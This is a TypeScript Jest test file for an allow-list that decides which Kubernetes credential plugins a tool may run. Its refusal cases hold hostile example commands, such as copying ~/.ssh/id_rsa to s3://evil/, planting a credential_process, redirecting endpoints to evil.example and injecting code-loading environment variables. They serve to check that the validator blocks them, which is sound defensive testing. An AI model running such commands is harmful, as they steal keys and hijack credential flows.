import { chmodSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, describe, expect, test } from '@jest/globals';
import { ClusterError } from '../../../src/cluster/cluster.ts';
import type { ExecConfig } from '../../../src/cluster/exec-policy.ts';
import { allowedProgram, type PluginPolicy, resolveProgram } from '../../../src/cluster/exec-policy.ts';
import { KNOWN_PLUGINS } from '../../../src/cluster/known-plugins.ts';

const directory = realpathSync(mkdtempSync(join(tmpdir(), 'rollback-daemonset-policy-')));
afterAll(() => rmSync(directory, { recursive: true, force: true }));
const bin = join(directory, 'bin');
mkdirSync(bin);
const install = (path: string): string => {
  writeFileSync(path, '#!/bin/sh\n', { mode: 0o700 });
  return path;
};
for (const name of [...Object.keys(KNOWN_PLUGINS), 'my-login']) install(join(bin, name));

const environment = { PATH: bin, TELEPORT_HOME: '/alt/home' };

function allowed(exec: ExecConfig, policy: PluginPolicy = ['known'], more: Record<string, string> = {}): string {
  try {
    return allowedProgram(exec, policy, { ...environment, ...more });
  } catch (error) {
    if (error instanceof ClusterError) return error.message;
    throw error;
  }
}

const env = (variables: Record<string, string>): { env: { name: string; value: string }[] } => ({
  env: Object.entries(variables).map(([name, value]) => ({ name, value })),
});
/** A command line; quotes are not needed. */
const exec = (line: string, more: ExecConfig = {}): ExecConfig => {
  const [command = '', ...args] = line.split(' ');
  return { command, ...(args.length > 0 && { args }), ...more };
};

describe('known allows what the login commands write:', () => {
  test.each<[string, ExecConfig]>([
    ['aws eks update-kubeconfig', exec('aws --region eu-central-1 eks get-token --cluster-name production --output json')],
    [
      'aws eks update-kubeconfig --role-arn --profile',
      exec(
        'aws --region eu-central-1 eks get-token --cluster-name production --output json --role arn:aws:iam::123456789012:role/rollback',
        env({ AWS_PROFILE: 'production' }),
      ),
    ],
    [
      'aws eks update-kubeconfig of an Outpost',
      exec('aws --region eu-central-1 eks get-token --cluster-id 3f2504e0-4f89-41d3-9a0c-0305e82c3301 --output json'),
    ],
    [
      'the EKS documentation',
      exec('aws eks get-token --cluster-name production --role-arn arn:aws:iam::1:role/a', env({ AWS_PROFILE: 'aws-profile' })),
    ],
    [
      'eksctl',
      exec(
        'aws eks get-token --output json --cluster-name production --region eu-central-1',
        env({ AWS_STS_REGIONAL_ENDPOINTS: 'regional' }),
      ),
    ],
    ['a profile as a flag', exec('aws --profile=production --region=eu-central-1 eks get-token --cluster-name=production')],
    [
      'eksctl with aws-iam-authenticator',
      exec(
        'aws-iam-authenticator token -i production -r arn:aws:iam::1:role/a',
        env({ AWS_STS_REGIONAL_ENDPOINTS: 'regional', AWS_DEFAULT_REGION: 'eu-central-1' }),
      ),
    ],
    ['gcloud container clusters get-credentials', { command: 'gke-gcloud-auth-plugin', args: null, env: null, installHint: 'x' }],
    [
      'gcloud with an impersonated account',
      exec('gke-gcloud-auth-plugin --use_application_default_credentials --impersonate_service_account=ci@p.iam.gserviceaccount.com'),
    ],
    [
      'az aks get-credentials',
      exec(
        'kubelogin get-token --environment AzurePublicCloud --server-id 6dae42f8 --client-id 80faf920 --tenant-id 72f988bf --login devicecode',
        { env: null },
      ),
    ],
    [
      'kubelogin convert-kubeconfig -l azurecli',
      exec('kubelogin get-token --login azurecli --server-id 6dae42f8-4368-4678-94ff-3960e28e3630'),
    ],
    [
      'kubelogin convert-kubeconfig -l spn',
      exec(
        'kubelogin get-token --login spn --server-id 6d --client-id 80 --tenant-id 72 --environment AzurePublicCloud --client-secret Ab~cd!ef$',
      ),
    ],
    [
      'kubelogin convert-kubeconfig -l workloadidentity',
      exec(
        'kubelogin get-token --login workloadidentity --server-id 6d --client-id 80 --tenant-id 72 --authority-host https://login.microsoftonline.com/',
      ),
    ],
    [
      'kubelogin convert-kubeconfig for Arc',
      exec(
        'kubelogin get-token --login interactive --server-id 6d --client-id 8 --tenant-id 7 --pop-enabled --pop-claims u=/subscriptions/1/c',
      ),
    ],
    [
      'kubectl oidc-login setup',
      exec(
        'kubectl-oidc_login get-token --oidc-issuer-url=https://issuer.example --oidc-client-id=ci --oidc-client-secret=x --grant-type=password --username=u',
      ),
    ],
    [
      'kubelogin of int128',
      exec('kubelogin get-token --oidc-issuer-url=https://issuer.example --oidc-client-id=ci --oidc-extra-scope=email'),
    ],
    [
      'doctl kubernetes cluster kubeconfig save',
      exec('doctl kubernetes cluster kubeconfig exec-credential --version=v1beta1 --context=default 3f2504e0-4f89-41d3-9a0c-0305e82c3301'),
    ],
    [
      'oci ce cluster create-kubeconfig',
      exec('oci ce cluster generate-token --cluster-id ocid1.cluster.oc1.eu-frankfurt-1.aaaa --region eu-frankfurt-1', { env: [] }),
    ],
    [
      'oci ce cluster create-kubeconfig --with-auth-context',
      exec(
        'oci ce cluster generate-token --cluster-id ocid1.cluster --region eu-frankfurt-1 --profile CI --auth security_token',
        env({ SUPPRESS_LABEL_WARNING: 'True' }),
      ),
    ],
    [
      'tsh kube login, with the absolute path of tsh and the TELEPORT_HOME of the job',
      exec(
        `${join(bin, 'tsh')} kube credentials --kube-cluster=production --teleport-cluster=root.example --proxy=root.example:443`,
        env({ TELEPORT_HOME: '/alt/home' }),
      ),
    ],
  ])('%s', (_name, config) => {
    const name = (config.command ?? '').split('/').at(-1) ?? '';
    expect(allowed(config)).toBe(join(bin, name));
  });
});

describe('known refuses what they do not write:', () => {
  const token = 'aws eks get-token --cluster-name c';
  test.each<[ExecConfig, RegExp]>([
    // Sends files away, plants a program, prints secrets.
    [exec('aws s3 cp /home/runner/.ssh/id_rsa s3://evil/'), /another sub-command than "eks get-token"/],
    [exec('aws configure set credential_process /tmp/evil'), /another sub-command/],
    [exec('aws eks update-kubeconfig --name c'), /another sub-command/],
    [exec('aws eks'), /another sub-command/],
    [exec('aws'), /another sub-command/],
    [exec(`${token} extra`), /another argument/],
    [exec('aws eks get-token --cluster-name file:///home/runner/.ssh/id_rsa'), /the flag --cluster-name with this value/],
    [exec('aws eks get-token --cluster-name=https://evil.example/x'), /the flag --cluster-name with this value/],
    [exec('aws --endpoint-url https://evil.example eks get-token --cluster-name c'), /the flag --endpoint-url,/],
    [exec('aws --endpoint https://evil.example eks get-token --cluster-name c'), /the flag --endpoint,/],
    [exec(`${token} --no-verify-ssl`), /the flag --no-verify-ssl,/],
    [exec(`${token} --ca-bundle /tmp/ca`), /the flag --ca-bundle,/],
    [exec(`${token} --query x`), /the flag --query,/],
    [exec(`${token} --output text`), /the flag --output with this value/],
    [exec(`${token} --region --profile`), /the flag --region with this value/],
    [exec(`${token} --region`), /the flag --region with this value/],
    [exec(`${token} --eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9`), /the flag \(not shown\)/],
    [exec(`${token} --constructor x`), /the flag --constructor,/],
    [exec('aws-iam-authenticator init -i c'), /another sub-command/],
    [exec('aws-iam-authenticator token -i c --config /tmp/x'), /the flag --config,/],
    [exec('gke-gcloud-auth-plugin version'), /another argument/],
    [exec('kubelogin get-token --login azurecli --server-id x --cache-dir /etc'), /the flag --cache-dir,/],
    [exec('kubelogin get-token --login azurecli --server-id x --token-cache-dir=/etc'), /the flag --token-cache-dir,/],
    [
      exec('kubelogin get-token --login workloadidentity --authority-host https://evil.example/'),
      /the flag --authority-host with this value/,
    ],
    [
      exec('kubelogin get-token --login workloadidentity --authority-host https://login.microsoftonline.com.evil.example/'),
      /the flag --authority-host/,
    ],
    [exec('kubelogin get-token --login workloadidentity --federated-token-file /etc/shadow'), /the flag --federated-token-file,/],
    [exec('kubelogin remove-tokens'), /another sub-command/],
    [exec('kubectl-oidc_login get-token --browser-command=/tmp/evil --oidc-issuer-url=https://i.example'), /the flag --browser-command,/],
    [
      exec('kubectl-oidc_login get-token --insecure-skip-tls-verify --oidc-issuer-url=https://i.example'),
      /the flag --insecure-skip-tls-verify,/,
    ],
    [exec('doctl kubernetes cluster kubeconfig exec-credential --api-url=https://evil.example c'), /the flag --api-url,/],
    [exec('doctl kubernetes cluster kubeconfig exec-credential one two'), /another argument/],
    [exec('doctl compute ssh x'), /another sub-command/],
    [exec('oci ce cluster generate-token --cluster-id c --config-file /tmp/x'), /the flag --config-file,/],
    [exec('oci ce cluster generate-token --cluster-id c --endpoint https://evil.example'), /the flag --endpoint,/],
    [exec('tsh kube credentials --kube-cluster=c --insecure'), /the flag --insecure,/],
    [exec('tsh ssh root@host'), /another sub-command/],
    ...[
      'AWS_CONFIG_FILE',
      'AWS_SHARED_CREDENTIALS_FILE',
      'AWS_CA_BUNDLE',
      'AWS_ENDPOINT_URL_STS',
      'AWS_PAGER',
      'AWS_CONTAINER_CREDENTIALS_FULL_URI',
      'AWS_WEB_IDENTITY_TOKEN_FILE',
      'HTTPS_PROXY',
      'HOME',
      'PATH',
      'BASH_FUNC_aws%%',
      'PYTHONPATH',
    ].map((name): [ExecConfig, RegExp] => [exec(token, env({ [name]: '/tmp/evil' })), new RegExp(`the environment variable "${name}"`)]),
    [exec(token, env({ AWS_PROFILE: '../../x' })), /the environment variable "AWS_PROFILE" of this value/],
    [exec('tsh kube credentials', env({ TELEPORT_HOME: '/tmp/evil' })), /"TELEPORT_HOME"/],
    [exec('tsh kube credentials', env({ TELEPORT_TOOLS_VERSION: '1' })), /"TELEPORT_TOOLS_VERSION"/],
    [exec('gke-gcloud-auth-plugin', env({ CLOUDSDK_PYTHON: '/tmp/evil' })), /"CLOUDSDK_PYTHON"/],
    [exec('gke-gcloud-auth-plugin', env({ GOOGLE_APPLICATION_CREDENTIALS: '/tmp/evil' })), /"GOOGLE_APPLICATION_CREDENTIALS"/],
    [exec('kubelogin get-token', env({ AZURE_CONFIG_DIR: '/tmp/evil' })), /"AZURE_CONFIG_DIR"/],
  ])('%j', (config, message) => {
    const answer = allowed(config);
    expect(answer).toMatch(message);
    expect(answer).toMatch(/which the login command of [\w-]+ does not write.*set exec-plugins to "known, /);
    expect(answer).not.toMatch(/evil|id_rsa|eyJ/);
    // Named, it is allowed, except for variables that load code in any program.
    const named = allowed(config, ['known', config.command ?? '']);
    if (/"(PATH|BASH_FUNC_aws%%|PYTHONPATH|CLOUDSDK_PYTHON)"/.test(answer)) expect(named).toMatch(/controls what code runs/);
    else expect(named).toBe(join(bin, config.command ?? ''));
  });

  test('a variable that the job has with the same value is allowed', () => {
    const config = exec(token, env({ AWS_CONFIG_FILE: '/home/runner/aws' }));
    expect(allowed(config, ['known'], { AWS_CONFIG_FILE: '/home/runner/aws' })).toBe(join(bin, 'aws'));
    expect(allowed(config, ['known'], { AWS_CONFIG_FILE: '/elsewhere' })).toMatch(/AWS_CONFIG_FILE/);
  });
});

describe('a program', () => {
  const elsewhere = join(directory, 'elsewhere');
  mkdirSync(elsewhere);
  const other = install(join(elsewhere, 'aws'));
  const notInstalled = /not installed on this runner \(not found in PATH\)/;

  test.each<[string, PluginPolicy, string]>([
    ['my-login', ['my-login'], join(bin, 'my-login')],
    [join(bin, 'my-login'), ['my-login'], join(bin, 'my-login')],
    ['my-login', [join(bin, 'my-login')], join(bin, 'my-login')],
    [join(elsewhere, '..', 'bin', 'my-login'), ['my-login'], join(bin, 'my-login')],
    ['my-login', 'any', join(bin, 'my-login')],
    [other, [other], other],
    [other, 'any', other],
  ])('%s is allowed by %j', (command, policy, file) => {
    expect(allowed({ command, args: ['anything', '--at-all'] }, policy)).toBe(file);
  });

  test.each<[string, PluginPolicy, RegExp]>([
    ['my-login', ['known'], /runs the program "my-login", which the input exec-plugins does not allow \(allowed: aws, /],
    ['my-login', [], /\(allowed: none\)/],
    ['aws', [], /\(allowed: none\)/],
    ['curl', ['known', 'my-login'], /\(allowed: aws, .*, my-login\)/],
    [other, ['aws'], /does not allow/],
    [other, ['known'], /does not allow/],
    ['../aws', ['aws', '../aws'], /a relative path is possible only in a kubeconfig that is a file/],
    ['./aws', 'any', /a relative path is possible only/],
    ['missing', ['missing'], notInstalled],
    ['missing', 'any', notInstalled],
    [join(bin, 'missing'), [join(bin, 'missing')], /does not exist on this runner, or is not an executable file/],
    [bin, 'any', /is not an executable file/],
    ['Zx8Kq2Lm9Np4Rt6Vw8Yb3Dc5Fg7Hj', ['known'], /runs the program \(not shown\)/],
  ])('%s is not allowed by %j', (command, policy, message) => {
    expect(allowed({ command }, policy)).toMatch(message);
  });

  test('is not searched in relative and empty entries of PATH', () => {
    const before = process.cwd();
    process.chdir(elsewhere);
    try {
      for (const PATH of ['', '.', delimiter, `${delimiter}.`, 'elsewhere', '../elsewhere', './'])
        expect(resolveProgram('aws', { PATH })).toBeUndefined();
      expect(resolveProgram('aws', { PATH: ['', '.', bin].join(delimiter) })).toBe(join(bin, 'aws'));
    } finally {
      process.chdir(before);
    }
  });

  test('is an executable file; its name stays, because some programs behave as their name', () => {
    const folder = join(directory, 'shims');
    mkdirSync(folder);
    const shim = install(join(folder, 'shim'));
    for (const name of ['one', 'two']) symlinkSync(shim, join(folder, name));
    expect(resolveProgram('one', { PATH: folder })).toBe(join(folder, 'one'));
    expect(allowed({ command: join(folder, 'two') }, ['one'], { PATH: folder })).toMatch(/does not allow/);
    chmodSync(install(join(folder, 'data')), 0o600);
    expect(resolveProgram('data', { PATH: folder })).toBeUndefined();
    symlinkSync(folder, join(directory, 'link'));
    expect(allowed({ command: join(directory, 'link', 'one') }, ['one'], { PATH: folder })).toBe(join(folder, 'one'));
  });
});

test('docs/authentication.md lists the known plugins, their sub-commands and their variables', () => {
  const rows = readFileSync('docs/authentication.md', 'utf8').matchAll(/^\| `([\w-]+)` \| (.*?) \| (.*?) \|$/gm);
  const code = (cell: string): string[] => [...cell.matchAll(/`([^`]+)`/g)].map(([, text = '']) => text);
  const documented = [...rows].map(([, name = '', subcommand = '', variables = '']) => ({
    name,
    subcommand: code(subcommand).join(),
    variables: variables === 'the same as for `aws`' ? KNOWN_PLUGINS['aws']?.variables : code(variables),
  }));
  expect(documented).toEqual(
    Object.entries(KNOWN_PLUGINS).map(([name, { subcommand, variables }]) => ({ name, subcommand: subcommand.join(' '), variables })),
  );
});
